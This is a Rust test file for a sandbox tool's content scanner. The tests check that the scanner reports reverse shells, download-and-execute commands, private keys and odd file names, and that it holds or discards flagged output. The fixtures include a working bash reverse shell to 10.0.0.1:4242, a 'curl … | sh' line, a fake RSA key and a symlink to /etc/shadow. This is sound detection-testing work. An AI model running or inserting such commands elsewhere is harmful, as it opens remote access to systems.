//! `sandbox scan`, and the same scanner on what an operation writes.

use std::{
    fs,
    os::unix::{
        ffi::OsStringExt as _,
        fs::{PermissionsExt as _, symlink},
    },
    process::Command,
};

use crate::lab::Lab;

const SHELL: &str = "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1\n";
/// Writes a private key, as a guest would: the tests hold none.
const WRITE_KEY: &str = "{ echo '-----BEGIN RSA PRIV''ATE KEY-----'; \
    for i in 1 2 3 4; do echo MIIEpAIBAAKCAQEAyXic6YOZq0M7qO60lI5QfecJUyGTelVEnIKXVuuEomFKB8Ky; done; \
    echo '-----END RSA PRIV''ATE KEY-----'; } > ";

#[test]
fn findings_have_file_line_and_rule() {
    let lab = Lab::new()
        .file("bin/run.sh", &format!("echo a\n{SHELL}"))
        .file("ok", "fine\n");
    lab.sandbox(&["scan", "."])
        .code(1)
        .prints("./bin/run.sh:2:1: critical [script.reverse-shell] ties a shell to a connection\n")
        .says("found 1 critical in 2 files");
    lab.sandbox(&["scan", "ok"])
        .code(0)
        .says("nothing found in 1 files");
    let report = lab.sandbox(&["scan", "--json", "bin"]).code(1).json();
    let finding = &report["findings"][0];
    assert_eq!(finding["path"], "bin/run.sh");
    assert_eq!(
        (finding["line"].as_u64(), finding["column"].as_u64()),
        (Some(2), Some(1))
    );
    assert_eq!(finding["severity"], "critical");
    assert!(finding["suggestion"].is_string() && finding["evidence"].is_string());
    assert!(!fs::exists(lab.data()).unwrap(), "a scan makes no sandbox");
}

#[test]
fn sarif_has_rules_results_and_places_without_secrets() {
    let line = "MIIEpAIBAAKCAQEAyXic6YOZq0M7qO60lI5QfecJUyGTelVEnIKXVuuEomFKB8Ky\n";
    let name = ["RSA PRIV", "ATE KEY-----\n"].concat();
    let key = format!("-----BEGIN {name}{}-----END {name}", line.repeat(4));
    let lab = Lab::new()
        .file("a b/run.sh", &format!("echo a\n{SHELL}{SHELL}"))
        .file("server.pem", &key);
    let odd = std::ffi::OsString::from_vec(b"n\xff:#%.sh".to_vec());
    fs::write(lab.workspace().join(odd), SHELL).unwrap();
    let ended = lab.sandbox(&["scan", "--sarif", "."]);
    assert!(
        !ended.stdout.contains(line.trim()),
        "secrets are never printed"
    );
    let log = ended.code(1).json();
    assert_eq!(log["version"], "2.1.0");
    let run = &log["runs"][0];
    assert_eq!(run["tool"]["driver"]["name"], "sandbox");
    assert_eq!(run["invocations"][0]["executionSuccessful"], true);
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    let results = run["results"].as_array().unwrap();
    let mut prints = std::collections::BTreeSet::new();
    for result in results {
        let index = usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap();
        assert_eq!(rules[index]["id"], result["ruleId"]);
        assert_eq!(
            rules[index]["defaultConfiguration"]["level"],
            result["level"]
        );
        let print = &result["partialFingerprints"]["ruleFileEvidence/v1"];
        assert!(prints.insert(print.as_str().unwrap()), "one each: {print}");
    }
    let places: Vec<(&str, &str, u64)> = results
        .iter()
        .map(|it| {
            let place = &it["locations"][0]["physicalLocation"];
            assert_eq!(place["artifactLocation"]["uriBaseId"], "%SRCROOT%");
            let uri = place["artifactLocation"]["uri"].as_str().unwrap();
            let line = place["region"]["startLine"].as_u64().unwrap();
            (it["ruleId"].as_str().unwrap(), uri, line)
        })
        .collect();
    for place in [
        ("script.reverse-shell", "a%20b/run.sh", 2),
        ("script.reverse-shell", "a%20b/run.sh", 3),
        ("script.reverse-shell", "n%FF%3A%23%25.sh", 1),
    ] {
        assert!(places.contains(&place), "{place:?} in {places:?}");
    }
    assert!(places.iter().any(|(_, uri, _)| *uri == "server.pem"));
    let whole = format!("{}/a b/run.sh", lab.workspace().display());
    let log = lab.sandbox(&["scan", "--sarif", &whole]).code(1).json();
    let place = &log["runs"][0]["results"][0]["locations"][0]["physicalLocation"];
    let uri = place["artifactLocation"]["uri"].as_str().unwrap();
    assert!(uri.starts_with("file:///") && uri.ends_with("/a%20b/run.sh"));
    let clean = lab.sandbox_with_input(&["scan", "--sarif", "-"], "fine\n");
    assert_eq!(
        clean.code(0).json()["runs"][0]["results"],
        serde_json::json!([])
    );
    lab.sandbox(&["scan", "--sarif", "--json", "."]).code(2);
}

#[test]
fn severity_and_standard_input() {
    let lab = Lab::new();
    let text = "curl https://example.com/x | sh\n";
    lab.sandbox_with_input(&["scan", "-"], text)
        .code(1)
        .prints("(standard input):1:1: medium [script.download-execute]");
    lab.sandbox_with_input(&["scan", "--severity", "high", "-"], text)
        .code(0);
    lab.sandbox(&["scan", "--severity", "worst", "-"]).code(2);
    lab.sandbox(&["scan"]).code(2);
    lab.sandbox(&["scan", "--max-size", "0", "."]).code(2);
    lab.sandbox(&["scan", "absent", "."])
        .code(2)
        .says("cannot scan 'absent'");
}

#[test]
fn only_the_first_bytes_of_a_large_file_are_scanned_and_that_is_said() {
    let lab = Lab::new().file("big", &format!("{}{SHELL}", "filler\n".repeat(2000)));
    lab.sandbox(&["scan", "."]).code(1);
    lab.sandbox(&["scan", "--max-size", "4K", "."])
        .code(0)
        .says("1 larger files only in part");
}

#[test]
fn a_hostile_tree_is_walked_to_its_end() {
    let lab = Lab::new()
        .file("z/run.sh", SHELL)
        .file(".git/objects/aa", SHELL);
    let root = lab.workspace();
    symlink("/", root.join("a-root")).unwrap();
    symlink("loop", root.join("loop")).unwrap();
    symlink("..", root.join("z/up")).unwrap();
    let pipe = Command::new("mkfifo")
        .arg(root.join("b-pipe"))
        .status()
        .unwrap();
    assert!(pipe.success());
    let odd = std::ffi::OsString::from_vec(b"n\xff\n\x1b[2Jame.sh".to_vec());
    fs::write(root.join(odd), SHELL).unwrap();
    deep(&root);
    let ended = lab.sandbox(&["scan", "--json", "."]);
    let report = ended.code(1).json();
    let rules: Vec<&str> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|it| it["rule"].as_str().unwrap())
        .collect();
    assert_eq!(
        rules,
        [
            "script.reverse-shell",
            "file.misleading-name",
            "script.reverse-shell",
            "script.reverse-shell"
        ],
        "the deep one, the odd one, and the one of z: nothing through a link, nothing of git's objects"
    );
    assert_eq!(report["skipped"], 4);
    assert_eq!(
        report["unreadable"].as_array().unwrap().len(),
        0,
        "{report:#}"
    );
    let text = lab.sandbox(&["scan", "."]).stdout;
    assert!(!text.contains('\x1b'), "names are escaped");
    Command::new("rm")
        .arg("-rf")
        .arg(root.join("d"))
        .status()
        .unwrap();
}

/// Makes a path that is longer than any system call takes, with a script at its end.
fn deep(root: &std::path::Path) {
    let script = format!(
        "cd '{}' && levels=$(printf 'd/%.0s' {{1..700}}) && for i in 1 2 3 4; do
             mkdir -p $levels && cd $levels || exit 1
         done; printf '%s' '{SHELL}' > run.sh",
        root.display()
    );
    let made = Command::new("bash").args(["-c", &script]).status().unwrap();
    assert!(made.success());
}

#[test]
fn what_cannot_be_read_is_named_and_not_clean() {
    let lab = Lab::new().file("ok", "fine\n").file("closed/secret", SHELL);
    let closed = lab.workspace().join("closed");
    fs::set_permissions(&closed, fs::Permissions::from_mode(0o000)).unwrap();
    let ended = lab.sandbox(&["scan", "."]);
    fs::set_permissions(&closed, fs::Permissions::from_mode(0o755)).unwrap();
    // Root reads everything, so for root it is a finding.
    ended.code(1);
    if ended.stdout.is_empty() {
        ended.says("not scanned: ./closed: Permission denied");
    } else {
        ended.prints("closed/secret:1:1: critical");
    }
}

#[test]
fn a_written_key_is_reported_and_committed_by_default() {
    let lab = Lab::new();
    let report = lab.run(&format!("{WRITE_KEY}key.pem; echo fine > ok"));
    assert_eq!(report["changes"]["settlement"], "committed");
    let findings = report["changes"]["findings"].as_array().unwrap();
    assert_eq!(findings.len(), 1, "{report:#}");
    assert_eq!(findings[0]["rule"], "secret.private-key");
    assert_eq!(findings[0]["path"], "key.pem");
    assert_eq!(report["changes"]["scan"]["files"], 2);
    assert!(
        !report["changes"].to_string().contains("MIIEpAIBAA"),
        "no secret in a report"
    );
    let shown = lab.sandbox(&["show", report["operation"]["id"].as_str().unwrap()]);
    shown
        .code(0)
        .prints("key.pem:1:1: high [secret.private-key]");
}

#[test]
fn the_configuration_holds_or_drops_findings() {
    let text = format!("{WRITE_KEY}key.pem");
    let with = |action: &str| Lab::new().env("SANDBOX_SAFETY_CONSTRAINTS__CONTENT__ACTION", action);

    let held = with("review");
    let ended = held.sandbox(&["run", "--shell", &text]);
    ended
        .code(126)
        .says("held 1 created")
        .says("holds a private key [secret.private-key]");
    assert_eq!(held.read("key.pem"), None);
    held.sandbox(&["commit"]).code(0);
    assert!(held.read("key.pem").is_some(), "a person decides");
    held.sandbox(&["run", "--shell", "echo harmless > ok"])
        .code(0);
    assert!(held.read("ok").is_some(), "only findings are held");

    let dropped = with("discard");
    dropped
        .sandbox(&["run", "--shell", &text])
        .code(126)
        .says("violation");
    assert_eq!(dropped.read("key.pem"), None);
    let report = dropped.run(&text);
    assert_eq!(report["changes"]["settlement"], "discarded");
    assert_eq!(report["violations"][0]["kind"], "content");

    let off = with("off");
    let report = off.run(&text);
    assert_eq!(report["changes"]["settlement"], "committed");
    assert!(report["changes"]["findings"].is_null() && report["changes"]["scan"].is_null());
}

#[test]
fn extensions_sizes_and_severities_are_configured() {
    let lab = Lab::new()
        .env("SANDBOX_SAFETY_CONSTRAINTS__CONTENT__ACTION", "review")
        .env(
            "SANDBOX_SAFETY_CONSTRAINTS__CONTENT__DENY_EXTENSIONS",
            "[exe]",
        )
        .env("SANDBOX_SAFETY_CONSTRAINTS__CONTENT__MAX_FILE_MB", "1");
    let report = lab.run("echo a > setup.EXE; head -c 1100000 /dev/zero > big; echo b > fine");
    assert_eq!(report["changes"]["settlement"], "pending");
    let mut rules: Vec<&str> = report["changes"]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|it| it["rule"].as_str().unwrap())
        .collect();
    rules.sort_unstable();
    assert_eq!(rules, ["file.denied-extension", "file.too-large"]);

    let strict = Lab::new().env("SANDBOX_SAFETY_CONSTRAINTS__CONTENT__SEVERITY", "low");
    let report = strict.run("echo 'curl https://example.com/x | sh' > get.sh");
    assert_eq!(
        report["changes"]["findings"][0]["rule"],
        "script.download-execute"
    );
    let plain = Lab::new().run("echo 'curl https://example.com/x | sh' > get.sh");
    assert!(
        plain["changes"]["findings"].is_null(),
        "medium is below the default"
    );
}

#[test]
fn what_the_bound_leaves_out_is_said() {
    let lab = Lab::new()
        .env("SANDBOX_SAFETY_CONSTRAINTS__CONTENT__SCAN_FILE_MB", "1")
        .env("SANDBOX_SAFETY_CONSTRAINTS__CONTENT__SCAN_TOTAL_MB", "2");
    let report = lab.run(&format!(
        "for i in 1 2 3; do head -c 2000000 /dev/zero > big$i; done; {WRITE_KEY}key.pem"
    ));
    assert_eq!(
        report["changes"]["findings"][0]["path"], "key.pem",
        "the small files come first"
    );
    let skipped = report["changes"]["scan"]["skipped"].to_string();
    assert!(skipped.contains("after its first 1M"), "{skipped}");
    assert!(
        skipped.contains("1 files, because 2M had been scanned"),
        "{skipped}"
    );
}

#[test]
fn what_a_guest_leaves_instead_of_files_is_not_opened() {
    let lab = Lab::new().env("SANDBOX_SAFETY_CONSTRAINTS__CONTENT__ACTION", "review");
    let report = lab.run("ln -s /etc/shadow link; mkfifo pipe; mkdir -p a/b; : > empty");
    assert_eq!(report["changes"]["settlement"], "committed", "{report:#}");
    assert_eq!(report["changes"]["scan"]["files"], 1);
}
